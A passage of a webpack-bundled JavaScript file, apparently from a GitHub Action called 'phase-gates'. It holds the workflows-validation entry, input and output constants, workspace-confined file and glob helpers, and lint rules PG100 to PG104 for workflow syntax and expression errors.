export const id = 342;
export const ids = [342];
export const modules = {

/***/ 5342:
/***/ ((__webpack_module__, __webpack_exports__, __webpack_require__) => {

__webpack_require__.a(__webpack_module__, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
__webpack_require__.r(__webpack_exports__);
/* harmony import */ var _host_actions_host_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(428);
/* harmony import */ var _host_run_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(4956);
/* harmony import */ var _core_commands_validate_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(7585);
/** Entry of actions/workflows-validation: builds the runner host and runs the validate command. */



process.exitCode = await (0,_host_run_js__WEBPACK_IMPORTED_MODULE_1__/* .runCommand */ .d)(new _host_actions_host_js__WEBPACK_IMPORTED_MODULE_0__/* .ActionsHost */ .Q(), _core_commands_validate_js__WEBPACK_IMPORTED_MODULE_2__/* .runValidate */ .ED);

__webpack_async_result__();
} catch(e) { __webpack_async_result__(e); } }, 1);

/***/ }),

/***/ 7585:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  ED: () => (/* binding */ runValidate)
});

// UNUSED EXPORTS: DEFAULT_CONFIG, DEFAULT_PATHS, DEFAULT_REQUIRED_CHECKS, VALIDATION_REPORT_SCHEMA

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(6760);
// EXTERNAL MODULE: ./.build/src/core/errors.js
var core_errors = __webpack_require__(6512);
;// CONCATENATED MODULE: ./.build/src/core/constants.js
/** Input and output names, once. Each notes the actions that use it. */
/** Inputs of gates-enforcer (and the root action). */
const GatesInputs = {
    PhaseFile: 'phase-file',
    Gates: 'gates',
    CoverageFiles: 'coverage-files',
    PerfFiles: 'perf-files',
    VulnFiles: 'vuln-files',
    GithubAlerts: 'github-alerts',
    SmokeReport: 'smoke-report',
    Metrics: 'metrics',
    FailOnMissing: 'fail-on-missing',
    Fail: 'fail',
    CheckName: 'check-name',
    ReportPath: 'report-path',
    Token: 'token'
};
/** Outputs of gates-enforcer. */
const GatesOutputs = {
    Passed: 'passed',
    FailedGates: 'failed-gates',
    Report: 'report',
    ReportPath: 'report-path'
};
/** Default artifact paths (SPEC, "Artifacts"). */
const Defaults = {
    GatesReport: 'gates-report.json',
    ValidationSarif: 'workflows-validation.sarif',
    DeployLog: 'ci/deploy-logs.txt',
    SmokeReport: 'post-deploy/smoke-report.json'
};
const GATES_REPORT_SCHEMA = 'phase-gates/gates-report@1';
/** Inputs of workflows-validation. */
const ValidationInputs = {
    Paths: 'paths',
    RequiredChecks: 'required-checks',
    BaseBranch: 'base-branch',
    Config: 'config',
    FailOn: 'fail-on',
    SarifPath: 'sarif-path',
    Token: 'token'
};
/** Outputs of workflows-validation. */
const ValidationOutputs = {
    Valid: 'valid',
    ErrorCount: 'error-count',
    WarningCount: 'warning-count',
    SarifPath: 'sarif-path',
    Report: 'report'
};
/** Inputs of smoke-test (and the root action). */
const SmokeInputs = {
    Url: 'url',
    Checks: 'checks',
    WaitForReady: 'wait-for-ready',
    Retries: 'retries',
    RetryDelayMs: 'retry-delay-ms',
    TimeoutMs: 'timeout-ms',
    FollowRedirects: 'follow-redirects',
    Samples: 'samples',
    Concurrency: 'concurrency',
    P95Ms: 'p95-ms',
    MaxErrorRate: 'max-error-rate',
    MonitorSeconds: 'monitor-seconds',
    ReportPath: 'report-path',
    DeploymentId: 'deployment-id',
    Token: 'token'
};
/** Outputs of smoke-test. */
const SmokeOutputs = {
    Passed: 'passed',
    ReportPath: 'report-path',
    P95Ms: 'p95-ms',
    ErrorRate: 'error-rate',
    FailedChecks: 'failed-checks'
};
const SMOKE_REPORT_SCHEMA = 'phase-gates/smoke-report@1';
/** Inputs of deploy (and the root action). */
const DeployInputs = {
    Environment: 'environment',
    Production: 'production',
    Mode: 'mode',
    Provider: 'provider',
    ProviderOptions: 'provider-options',
    Version: 'version',
    Run: 'run',
    RollbackRun: 'rollback-run',
    MigrateRun: 'migrate-run',
    Strategy: 'strategy',
    CanarySteps: 'canary-steps',
    VerifyChecks: 'verify-checks',
    GatesReport: 'gates-report',
    RequireGates: 'require-gates',
    StagingEnvironment: 'staging-environment',
    RequireStaging: 'require-staging',
    FreezeWindows: 'freeze-windows',
    Timezone: 'timezone',
    FreezeOverride: 'freeze-override',
    RequiredSecrets: 'required-secrets',
    Region: 'region',
    AllowedRegions: 'allowed-regions',
    EnvironmentUrl: 'environment-url',
    TimeoutMinutes: 'timeout-minutes',
    LockStaleMinutes: 'lock-stale-minutes',
    DryRun: 'dry-run',
    LogPath: 'log-path',
    LedgerPath: 'ledger-path',
    Token: 'token'
};
/** Outputs of deploy. */
const DeployOutputs = {
    DeploymentId: 'deployment-id',
    EnvironmentUrl: 'environment-url',
    Version: 'version',
    PreviousVersion: 'previous-version',
    Status: 'status',
    RollbackPerformed: 'rollback-performed',
    RollbackSkipped: 'rollback-skipped',
    LogPath: 'log-path',
    FailedChecks: 'failed-checks'
};
/** The local deployments ledger of deploy, used without a token (inside the workspace). */
const DEPLOY_LEDGER_DEFAULT = '.phase-gates/deployments.jsonl';
/**
 * Inputs of the root action (action.yml: gates → deploy → smoke-test → rollback → Phase 07 gate).
 * Each keeps the name its action gives it; where two actions share a name with different
 * meanings, the plain name keeps the gates-enforcer meaning and the other is prefixed
 * (`smoke-report-path` is smoke-test's `report-path`). `token` is shared by every stage. Not
 * inputs, because the chain wires them: deploy's `mode`, `gates-report` and `require-gates`, and
 * smoke-test's `deployment-id`.
 */
const PipelineInputs = {
    // gates-enforcer (Phase 05 → 06)
    PhaseFile: 'phase-file',
    Gates: 'gates',
    CoverageFiles: 'coverage-files',
    PerfFiles: 'perf-files',
    VulnFiles: 'vuln-files',
    GithubAlerts: 'github-alerts',
    SmokeReport: 'smoke-report',
    Metrics: 'metrics',
    FailOnMissing: 'fail-on-missing',
    Fail: 'fail',
    CheckName: 'check-name',
    ReportPath: 'report-path',
    // deploy
    Environment: 'environment',
    Production: 'production',
    Provider: 'provider',
    ProviderOptions: 'provider-options',
    Version: 'version',
    Run: 'run',
    RollbackRun: 'rollback-run',
    MigrateRun: 'migrate-run',
    Strategy: 'strategy',
    CanarySteps: 'canary-steps',
    VerifyChecks: 'verify-checks',
    StagingEnvironment: 'staging-environment',
    RequireStaging: 'require-staging',
    FreezeWindows: 'freeze-windows',
    Timezone: 'timezone',
    FreezeOverride: 'freeze-override',
    RequiredSecrets: 'required-secrets',
    Region: 'region',
    AllowedRegions: 'allowed-regions',
    EnvironmentUrl: 'environment-url',
    TimeoutMinutes: 'timeout-minutes',
    LockStaleMinutes: 'lock-stale-minutes',
    DryRun: 'dry-run',
    LogPath: 'log-path',
    LedgerPath: 'ledger-path',
    // smoke-test
    Url: 'url',
    Checks: 'checks',
    WaitForReady: 'wait-for-ready',
    Retries: 'retries',
    RetryDelayMs: 'retry-delay-ms',
    TimeoutMs: 'timeout-ms',
    FollowRedirects: 'follow-redirects',
    Samples: 'samples',
    Concurrency: 'concurrency',
    P95Ms: 'p95-ms',
    MaxErrorRate: 'max-error-rate',
    MonitorSeconds: 'monitor-seconds',
    SmokeReportPath: 'smoke-report-path',
    // the Phase 07 gate
    Phase07Gates: 'phase-07-gates',
    Phase07ReportPath: 'phase-07-report-path',
    // every stage
    Token: 'token'
};
/** Outputs of the root action: each stage's, named after the stage where the plain name is taken. */
const PipelineOutputs = {
    // gates-enforcer (Phase 05 → 06)
    GatesPassed: 'gates-passed',
    FailedGates: 'failed-gates',
    Report: 'report',
    ReportPath: 'report-path',
    // deploy (and the rollback after a failed smoke test)
    DeploymentId: 'deployment-id',
    EnvironmentUrl: 'environment-url',
    Version: 'version',
    PreviousVersion: 'previous-version',
    DeployStatus: 'deploy-status',
    RollbackPerformed: 'rollback-performed',
    RollbackSkipped: 'rollback-skipped',
    LogPath: 'log-path',
    DeployFailedChecks: 'deploy-failed-checks',
    // smoke-test
    SmokePassed: 'smoke-passed',
    SmokeReportPath: 'smoke-report-path',
    P95Ms: 'p95-ms',
    ErrorRate: 'error-rate',
    FailedChecks: 'failed-checks',
    // the Phase 07 gate
    Phase07Passed: 'phase-07-passed',
    Phase07FailedGates: 'phase-07-failed-gates',
    Phase07Report: 'phase-07-report',
    Phase07ReportPath: 'phase-07-report-path',
    // the whole chain
    Passed: 'passed',
    FailedStage: 'failed-stage'
};
/** Where the root action writes the Phase 07 gates report (beside the smoke report; Phase 05's stays gates-report.json). */
const PHASE_07_REPORT_DEFAULT = 'post-deploy/gates-report.json';

;// CONCATENATED MODULE: ./.build/src/core/inputs.js

/** A trimmed input value, or `fallback` when unset. */
function input(host, name, fallback = '') {
    const v = host.getInput(name).trim();
    return v === '' ? fallback : v;
}
/** A boolean input as the runner's YAML 1.2 core schema reads it (true/True/TRUE, false/False/FALSE). */
function booleanInput(host, name, fallback) {
    const v = host.getInput(name).trim();
    if (v === '')
        return fallback;
    if (['true', 'True', 'TRUE'].includes(v))
        return true;
    if (['false', 'False', 'FALSE'].includes(v))
        return false;
    throw new UserError(`not a boolean: ${JSON.stringify(v)}`, { input: name, hint: 'write true or false' });
}
/** A required input. */
function requiredInput(host, name) {
    const v = input(host, name);
    if (!v)
        throw new UserError('required and not supplied', { input: name });
    return v;
}

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(3024);
// EXTERNAL MODULE: external "node:string_decoder"
var external_node_string_decoder_ = __webpack_require__(6193);
// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(7598);
// EXTERNAL MODULE: ./node_modules/@actions/glob/lib/glob.js + 17 modules
var glob = __webpack_require__(2377);
;// CONCATENATED MODULE: ./.build/src/core/files.js
/**
 * Files named by inputs: globs resolved inside the workspace, heads sniffed, lines streamed with
 * bounded memory, reports written atomically.
 */







/** Splits a list input: one item per line or comma-separated (commas inside `{…}` belong to the glob). */
function splitList(value) {
    const items = [];
    for (const line of value.split(/\r?\n/)) {
        let depth = 0;
        let current = '';
        for (const ch of line) {
            if (ch === '{')
                depth++;
            else if (ch === '}')
                depth = Math.max(0, depth - 1);
            if (ch === ',' && depth === 0) {
                items.push(current);
                current = '';
            }
            else
                current += ch;
        }
        items.push(current);
    }
    return items.map((s) => s.trim()).filter((s) => s.length > 0 && !s.startsWith('#'));
}
function isInside(root, candidate) {
    const rel = external_node_path_.relative(root, candidate);
    return rel === '' || (!rel.startsWith('..') && !external_node_path_.isAbsolute(rel));
}
function realWorkspace(workspace) {
    try {
        return (0,external_node_fs_.realpathSync)(workspace);
    }
    catch {
        return external_node_path_.resolve(workspace);
    }
}
/** The path relative to the workspace, with forward slashes, for reports and messages. */
function displayPath(workspace, file) {
    const rel = external_node_path_.relative(realWorkspace(workspace), file);
    return (rel && !rel.startsWith('..') ? rel : file).split(external_node_path_.sep).join('/');
}
/** Most links followed while resolving one path (the kernel's own limit is 40). */
const MAX_LINK_HOPS = 40;
/**
 * The real path of `resolved`: its longest existing prefix through realpath, the rest appended. A
 * dangling link on the way is followed to where it points (a write through it would land there).
 */
function realOf(resolved, hops = 0) {
    let probe = resolved;
    const tail = [];
    for (;;) {
        try {
            return external_node_path_.join((0,external_node_fs_.realpathSync)(probe), ...tail.reverse());
        }
        catch {
            let target;
            try {
                if ((0,external_node_fs_.lstatSync)(probe).isSymbolicLink())
                    target = (0,external_node_fs_.readlinkSync)(probe);
            }
            catch {
                // Not there at all: its parent is looked at next.
            }
            if (target !== undefined && hops < MAX_LINK_HOPS)
                return realOf(external_node_path_.join(external_node_path_.resolve(external_node_path_.dirname(probe), target), ...tail.reverse()), hops + 1);
            const parent = external_node_path_.dirname(probe);
            if (parent === probe)
                return resolved;
            tail.push(external_node_path_.basename(probe));
            probe = parent;
        }
    }
}
/**
 * Resolves a path given by `input` against the workspace and refuses one that escapes it,
 * through `..`, an absolute path elsewhere, or a symbolic link. An absolute path into the
 * workspace is accepted, also through another name of it (a link to it, `$PWD` of a shell that
 * entered through one). Returns the real path.
 */
function resolveInWorkspace(workspace, given, input) {
    const root = realWorkspace(workspace);
    const resolved = external_node_path_.resolve(root, given);
    const real = realOf(resolved);
    if (!isInside(root, real)) {
        // Inside by its name but not by where it leads: a link inside the workspace points out.
        const throughLink = isInside(root, resolved) || isInside(external_node_path_.resolve(workspace), resolved);
        throw new core_errors/* UserError */.y(throughLink ? `path escapes the workspace through a link: ${given}` : `path escapes the workspace: ${given}`, { input });
    }
    return real;
}
/**
 * Like {@link resolveInWorkspace}, for a file the command writes (a report, a log, a ledger): a
 * directory there is refused in one line, before any work is done.
 */
function resolveOutputInWorkspace(workspace, given, input) {
    const file = resolveInWorkspace(workspace, given, input);
    if (isDirectory(file))
        throw new core_errors/* UserError */.y(`${given} is a directory: give the path of a file in it`, { input });
    return file;
}
/**
 * Opens a file of the workspace for appending (creating it and its directory): never through a
 * symbolic link, dangling ones included (O_NOFOLLOW), never a directory. Returns the descriptor.
 */
function openAppend(file, shown, input) {
    try {
        mkdirSync(path.dirname(file), { recursive: true });
        return openSync(file, fsConstants.O_WRONLY | fsConstants.O_APPEND | fsConstants.O_CREAT | fsConstants.O_NOFOLLOW, 0o644);
    }
    catch (err) {
        const code = err.code;
        if (code === 'ELOOP')
            throw new UserError(`${shown} is a symbolic link: refused (phase-gates does not write through links)`, { input });
        if (code === 'EISDIR')
            throw new UserError(`${shown} is a directory: give the path of a file`, { input });
        if (code === 'ENOTDIR' || code === 'EEXIST')
            throw new UserError(`cannot create ${shown}: a part of its path is a file`, { input });
        throw err;
    }
}
/**
 * Expands the globs of a list input (one per line or comma-separated, `!` to exclude) into
 * files inside the workspace. A pattern that escapes the workspace or matches nothing is an error.
 * A pattern naming a directory goes to `directory` (without one: an error saying so).
 */
async function expandGlobs(workspace, value, input, directory) {
    const root = realWorkspace(workspace);
    const patterns = splitList(value);
    const found = new Set();
    const excludes = patterns.filter((p) => p.startsWith('!')).map((e) => realPattern(root, e.slice(1), input));
    for (const pattern of patterns) {
        if (pattern.startsWith('!'))
            continue;
        const absolute = realPattern(root, pattern, input);
        if (!/[*?[\]{}]/.test(pattern) && isDirectory(absolute)) {
            const shown = pattern.replace(/\/+$/, '') || '.';
            if (!directory)
                throw new core_errors/* UserError */.y(`${JSON.stringify(shown)} is a directory: name the files in it (a glob such as ${shown}/**/*.xml)`, { input });
            const excluded = excludes.length ? await matchAll(excludes) : new Set();
            for (const f of await directory(absolute, shown))
                if (!excluded.has(f))
                    found.add(f);
            continue;
        }
        await boundGlobWalk(root, absolute, pattern, input);
        const globber = await glob/* create */.v([absolute, ...excludes.map((e) => '!' + e)].join('\n'), {
            followSymbolicLinks: false,
            implicitDescendants: false,
            matchDirectories: false
        });
        const matches = await globber.glob();
        if (matches.length === 0) {
            throw new core_errors/* UserError */.y(`no file matches ${JSON.stringify(pattern)}`, { input });
        }
        for (const match of matches.sort()) {
            let real;
            try {
                real = (0,external_node_fs_.realpathSync)(match);
            }
            catch (err) {
                const code = err.code;
                if (code !== 'ENOENT' && code !== 'ELOOP')
                    throw err;
                throw new core_errors/* UserError */.y(`${displayPath(root, match)} is a symbolic link to ${code === 'ELOOP' ? 'itself (a loop of links)' : 'nothing (its target is missing)'}`, { input });
            }
            if (!isInside(root, real))
                throw new core_errors/* UserError */.y(`path escapes the workspace: ${displayPath(root, match)}`, { input });
            found.add(real);
        }
    }
    return [...found];
}
/** Most directory entries a glob may make the walk look at. */
const MAX_GLOB_ENTRIES = 100_000;
/**
 * Refuses a glob whose walk would look at more than {@link MAX_GLOB_ENTRIES} entries, before the
 * walk: a pattern of three `**` segments over a tree of 100,000 files took @actions/glob 41 s. Counts the entries under the
 * pattern's literal directory, to the depth its segments reach (any depth after `**`), without
 * following links; stops counting at the limit, so the count itself is bounded.
 */
async function boundGlobWalk(root, absolute, pattern, input) {
    const parts = absolute.split(external_node_path_.sep);
    const first = parts.findIndex((p) => /[*?[\]{}]/.test(p));
    if (first < 0)
        return;
    const base = parts.slice(0, first).join(external_node_path_.sep) || external_node_path_.sep;
    const rest = parts.slice(first);
    const depth = rest.some((p) => p.includes('**')) ? Infinity : rest.length;
    let seen = 0;
    const walk = async (dir, level) => {
        let entries;
        try {
            entries = await external_node_fs_.promises.readdir(dir, { withFileTypes: true });
        }
        catch {
            return; // unreadable or gone: the glob skips it too
        }
        seen += entries.length;
        if (seen > MAX_GLOB_ENTRIES) {
            const rel = external_node_path_.relative(root, base);
            const shown = rel === '' ? '.' : rel.startsWith('..') ? base : rel;
            throw new core_errors/* UserError */.y(`${JSON.stringify(pattern)} would walk more than ${MAX_GLOB_ENTRIES.toLocaleString('en-US')} entries under ${shown}: start it with the directory that holds the files`, { input });
        }
        if (level + 1 >= depth)
            return;
        for (const e of entries)
            if (e.isDirectory())
                await walk(external_node_path_.join(dir, e.name), level + 1);
    };
    await walk(base, 0);
}
async function matchAll(patterns) {
    const globber = await glob/* create */.v(patterns.join('\n'), { followSymbolicLinks: false, implicitDescendants: true, matchDirectories: false });
    return new Set((await globber.glob()).map((m) => (0,external_node_fs_.realpathSync)(m)));
}
function isDirectory(file) {
    try {
        return (0,external_node_fs_.statSync)(file).isDirectory();
    }
    catch {
        return false;
    }
}
/** Most directory entries a walk of a directory named by an input looks at. */
const MAX_WALK_ENTRIES = 20_000;
/** Directories a walk never enters: dependencies and version control. */
const SKIPPED_DIRS = new Set(['node_modules', '.git', 'vendor', 'bower_components']);
/**
 * The regular files under `dir` (symbolic links not followed; dependency and version-control
 * directories skipped), sorted, at most `maxDepth` levels down. Past {@link MAX_WALK_ENTRIES}
 * entries it stops with an error naming the directory and the input.
 */
async function filesUnder(dir, shown, input, maxDepth = 12) {
    const files = [];
    let seen = 0;
    const walk = async (d, depth) => {
        let entries;
        try {
            entries = await external_node_fs_.promises.readdir(d, { withFileTypes: true });
        }
        catch (err) {
            const where = d === dir ? shown : external_node_path_.join(shown, external_node_path_.relative(dir, d));
            throw new core_errors/* UserError */.y(`cannot read the directory ${where} (${err.code})`, { input });
        }
        entries.sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0));
        for (const e of entries) {
            if (++seen > MAX_WALK_ENTRIES)
                throw new core_errors/* UserError */.y(`${shown} holds more than ${MAX_WALK_ENTRIES} entries: name the files or a smaller directory in it`, { input });
            const full = external_node_path_.join(d, e.name);
            if (e.isFile())
                files.push(full);
            else if (e.isDirectory() && !SKIPPED_DIRS.has(e.name) && depth < maxDepth)
                await walk(full, depth + 1);
        }
    };
    await walk(dir, 0);
    return files;
}
/**
 * A pattern made absolute with its literal directory part replaced by that directory's real path
 * (refused when it escapes the workspace), so that matches and excludes share one spelling.
 */
function realPattern(root, pattern, input) {
    const base = pattern.replace(/^\.\//, '');
    const { prefix, count } = globPrefix(base);
    const rest = base.split('/').slice(count);
    const realPrefix = resolveInWorkspace(root, prefix, input);
    return rest.length ? external_node_path_.join(realPrefix, ...rest) : realPrefix;
}
/** The literal directory part of a glob (up to the first segment holding a wildcard), and how many segments it has. */
function globPrefix(pattern) {
    const segments = pattern.split('/');
    let count = 0;
    while (count < segments.length && !/[*?[\]{}]/.test(segments[count]))
        count++;
    const literal = segments.slice(0, count).join('/');
    return { prefix: literal || (pattern.startsWith('/') ? '/' : '.'), count };
}
/** Bytes read from the start of a report to recognise its format. */
const HEAD_BYTES = (/* unused pure expression or super */ null && (64 * 1024));
/** Reads the head of a report; refuses empty and binary files with a message naming them. */
async function readHead(file, shown, input) {
    let handle;
    try {
        handle = await fs.open(file, 'r');
    }
    catch (err) {
        const code = err.code;
        throw new UserError(code === 'ENOENT' ? 'file not found' : `cannot read (${code})`, { input, file: shown });
    }
    try {
        const stat = await handle.stat();
        if (!stat.isFile())
            throw new UserError('not a regular file', { input, file: shown });
        const buffer = Buffer.alloc(Math.min(HEAD_BYTES, stat.size));
        const { bytesRead } = await handle.read(buffer, 0, buffer.length, 0);
        const bytes = buffer.subarray(0, bytesRead);
        if (bytes.length === 0 || bytes.toString('utf8').trim() === '') {
            throw new UserError('empty report', { input, file: shown });
        }
        if (bytes.includes(0))
            throw new UserError('binary file, not a report', { input, file: shown });
        let text = bytes.toString('utf8');
        if (text.charCodeAt(0) === 0xfeff)
            text = text.slice(1);
        return { text, size: stat.size };
    }
    finally {
        await handle.close();
    }
}
/** Longest line accepted by {@link forEachLine}; longer ones mean a file that is not a line-based report. */
const MAX_LINE = (/* unused pure expression or super */ null && (1024 * 1024));
/** Calls `onLine`; a UserError it throws without a place is placed at this line of this file. */
function lineOf(onLine, line, lineNo, input, shown) {
    try {
        onLine(line, lineNo);
    }
    catch (err) {
        throw UserError.attribute(err, { input, file: shown, line: lineNo });
    }
}
/**
 * Calls `onLine` for every line of a file (without its line ending), streaming it in chunks so that
 * memory stays bounded whatever the size. A NUL byte or an over-long line ends it with a UserError.
 */
async function forEachLine(file, shown, input, onLine) {
    const decoder = new StringDecoder('utf8');
    let pending = '';
    let lineNo = 0;
    const stream = createReadStream(file, { highWaterMark: 1024 * 1024 });
    for await (const chunk of stream) {
        if (chunk.includes(0)) {
            stream.destroy();
            throw new UserError('binary data in a text report', { input, file: shown, line: lineNo + 1 });
        }
        let text = pending + decoder.write(chunk);
        let start = 0;
        for (;;) {
            const nl = text.indexOf('\n', start);
            if (nl < 0)
                break;
            let end = nl;
            if (end > start && text.charCodeAt(end - 1) === 13)
                end--;
            lineNo++;
            lineOf(onLine, text.slice(start, end), lineNo, input, shown);
            start = nl + 1;
        }
        pending = text.slice(start);
        text = '';
        if (pending.length > MAX_LINE) {
            stream.destroy();
            throw new UserError(`line longer than ${MAX_LINE} characters`, { input, file: shown, line: lineNo + 1 });
        }
    }
    pending += decoder.end();
    if (pending.length > 0) {
        if (pending.charCodeAt(pending.length - 1) === 13)
            pending = pending.slice(0, -1);
        lineNo++;
        lineOf(onLine, pending, lineNo, input, shown);
    }
    return lineNo;
}
/** Largest JSON report read whole (JSON formats are parsed in one piece). */
const MAX_JSON_BYTES = (/* unused pure expression or super */ null && (256 * 1024 * 1024));
/**
 * Reads and parses a JSON report whole, naming the file and line of a syntax error (found by
 * {@link jsonErrorOffset} when V8 gives no position) and calling a file that ends inside a value
 * truncated.
 */
async function readJsonText(file, shown, input) {
    const stat = await fs.stat(file);
    if (stat.size > MAX_JSON_BYTES) {
        throw new UserError(`JSON report larger than ${MAX_JSON_BYTES / 1024 / 1024} MB`, { input, file: shown });
    }
    let text = await fs.readFile(file, 'utf8');
    if (text.charCodeAt(0) === 0xfeff)
        text = text.slice(1);
    try {
        return { value: JSON.parse(text), text };
    }
    catch (err) {
        const offset = jsonErrorOffset(text);
        const end = text.trimEnd().length;
        const truncated = offset >= end;
        const line = text.slice(0, Math.min(offset, Math.max(0, end - 1)) + 1).split('\n').length;
        const reason = err.message.replace(/ in JSON at position \d+.*$/s, '').replace(/[,:]? *"[\s\S]*$/, '');
        throw new UserError(truncated ? 'truncated JSON (the file ends inside a value)' : `invalid JSON (${reason})`, { input, file: shown, line });
    }
}
/** Reads and parses a JSON report (see {@link readJsonText}). */
async function readJson(file, shown, input) {
    return (await readJsonText(file, shown, input)).value;
}
/**
 * Writes a file atomically: a temporary file beside it, flushed, then renamed over the target,
 * so that a reader sees the old content or the new one, never half of it. `mode` 0o755 writes an
 * executable.
 */
async function writeFileAtomic(target, content, mode = 0o644) {
    await external_node_fs_.promises.mkdir(external_node_path_.dirname(target), { recursive: true });
    const temp = external_node_path_.join(external_node_path_.dirname(target), `.${external_node_path_.basename(target)}.${(0,external_node_crypto_.randomBytes)(6).toString('hex')}.tmp`);
    const handle = await external_node_fs_.promises.open(temp, 'w', mode);
    try {
        await handle.writeFile(content, 'utf8');
        // The mode is set before the rename (the umask may have narrowed it), so no reader sees the file without it.
        if (mode !== 0o644)
            await handle.chmod(mode);
        await handle.sync();
    }
    finally {
        await handle.close();
    }
    try {
        await external_node_fs_.promises.rename(temp, target);
    }
    catch (err) {
        await external_node_fs_.promises.rm(temp, { force: true });
        throw err;
    }
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/internal/parser-messages.js
function familyOf(problem) {
    if (problem.stage === 'read')
        return 'read';
    const m = problem.message;
    if (/^Unrecognized named-value/.test(m))
        return 'context';
    if (/^Unrecognized function/.test(m))
        return 'function';
    if (/^(Unexpected end of expression|Unexpected symbol|Exceeded max expression|Too (few|many) parameters|Even number of parameters|The expression is not closed|The directive '.*' is not allowed)/.test(m)) {
        return 'expression';
    }
    if (/depends on unknown job|creates a cycle in the dependency graph|at least one job with no dependencies/.test(m))
        return 'needs';
    return 'syntax';
}
/** A rule that reports the parser's messages of one family, at the parser's positions. */
function parserMessageRule(meta, family, rewrite = (m) => m) {
    return {
        ...meta,
        create(context) {
            return {
                file(file) {
                    const echoes = echoesOf(file.problems);
                    for (const p of file.problems) {
                        if (familyOf(p) !== family || echoes.has(p))
                            continue;
                        context.report(file.source, p, rewrite(p.message));
                    }
                }
            };
        }
    };
}
/**
 * The converter re-parses an `if: ${{ … }}` that the reader already refused, and then complains
 * about the `${{` itself: an echo of the first message at the same place, not a second fault.
 * Places counted once, so that a file of many messages costs linear time.
 */
function echoesOf(all) {
    const isEcho = (p) => /^Unexpected symbol: '\$\{\{'/.test(p.message);
    const place = (p) => `${p.at.line}:${p.at.column}`;
    const count = new Map();
    for (const p of all)
        if (isEcho(p))
            count.set(place(p), 0);
    if (count.size === 0)
        return new Set();
    for (const p of all)
        if (count.has(place(p)))
            count.set(place(p), count.get(place(p)) + 1);
    return new Set(all.filter((p) => isEcho(p) && count.get(place(p)) > 1));
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/unreadable-file.js
/** PG100 unreadable-file: a file that cannot be read as a workflow at all, or is not one. */

/* harmony default export */ const unreadable_file = (parserMessageRule({
    id: 'PG100',
    name: 'unreadable-file',
    level: 'error',
    description: 'A file that cannot be read as YAML text (larger than GitHub\'s 500 KB, nested too deeply, binary, not UTF-8, an alias bomb), or is not a workflow or action metadata at all.',
    help: 'GitHub reads workflows as UTF-8 YAML. A file that is binary, not UTF-8, larger than 512,000 bytes (GitHub runs no workflow file over 500 KB), nested deeper than 64 levels, of more than 100,000 YAML nodes or 10,000 aliases, or whose aliases expand to more than 200,000 nodes is refused before parsing, and a workflow of more than 10,000 jobs before it is analysed, so that it costs bounded time and memory; the other files are still checked. A file that parses as YAML but is not a workflow (several documents, such as a Kubernetes manifest; a top level that is not a mapping; neither `on:` nor `jobs:`, such as `dependabot.yml`), or not action metadata (none of `runs:`, `name:`, `inputs:` …), gets this one line instead of the parser\'s many messages. Fix the file, or leave it out of `paths` (or `ignore:` in the config).'
}, 'read'));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/workflow-syntax.js
/** PG101 workflow-syntax: YAML and schema errors, as GitHub's own parser reports them. */

/* harmony default export */ const workflow_syntax = (parserMessageRule({
    id: 'PG101',
    name: 'workflow-syntax',
    level: 'error',
    description: "YAML and schema errors in a workflow or action.yml, with GitHub's own parser messages.",
    help: "The file is checked by `@actions/workflow-parser`, the parser GitHub's editor tooling uses, against the workflow or action schema: unknown keys, missing required keys, values of the wrong type, duplicate keys, invalid cron schedules and invalid YAML. The message is the parser's own; GitHub refuses such a workflow when it runs."
}, 'syntax'));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/expression-syntax.js
/** PG102 expression-syntax: a `${{ }}` expression that does not parse. */

/* harmony default export */ const expression_syntax = (parserMessageRule({
    id: 'PG102',
    name: 'expression-syntax',
    level: 'error',
    description: 'An expression that does not parse: unbalanced parentheses, a stray symbol, an unclosed `${{`, wrong argument counts.',
    help: "Every `${{ }}` expression (and every `if:` condition) is parsed with `@actions/expressions`, GitHub's expression parser. An expression that does not parse fails the job when the runner evaluates it, often only on the branch that reaches it."
}, 'expression'));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/unknown-context.js
/** PG103 unknown-context: a context name that does not exist, or is not available where it is used. */

/* harmony default export */ const unknown_context = (parserMessageRule({
    id: 'PG103',
    name: 'unknown-context',
    level: 'error',
    description: 'A context that does not exist, or is not available at that key (e.g. `steps` in `runs-on`).',
    help: 'Each workflow key allows its own set of contexts (`github`, `env`, `vars`, `secrets`, `matrix`, `needs`, `steps`, `inputs`, …): `steps` is not available in `runs-on`, `secrets` not in `if:`. A name outside that set is a typo or a context used too early; GitHub fails the workflow on it.'
}, 'context', (m) => m.replace(/^Unrecognized named-value: '(.*)'$/, "Unrecognized named-value: '$1' (not a context available here)")));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/unknown-function.js
/** PG104 unknown-function: a function GitHub's expressions do not have. */

/* harmony default export */ const unknown_function = (parserMessageRule({
    id: 'PG104',
    name: 'unknown-function',
    level: 'error',
    description: 'A function that GitHub expressions do not provide (e.g. `toJson` is fine, `toYaml` is not).',
    help: 'Expressions have a fixed set of functions: `contains`, `startsWith`, `endsWith`, `format`, `join`, `toJSON`, `fromJSON`, `hashFiles`, `success`, `always`, `cancelled`, `failure` and `case`. Any other name fails the workflow.'
}, 'function'));

// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/index.js
var dist = __webpack_require__(2657);
// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/index.js + 27 modules
var expressions_dist = __webpack_require__(2506);
// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/ast.js
var ast = __webpack_require__(2049);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/template-token.js + 1 modules
var template_token = __webpack_require__(2645);
;// CONCATENATED MODULE: ./.build/src/core/workflows/expressions.js
/**
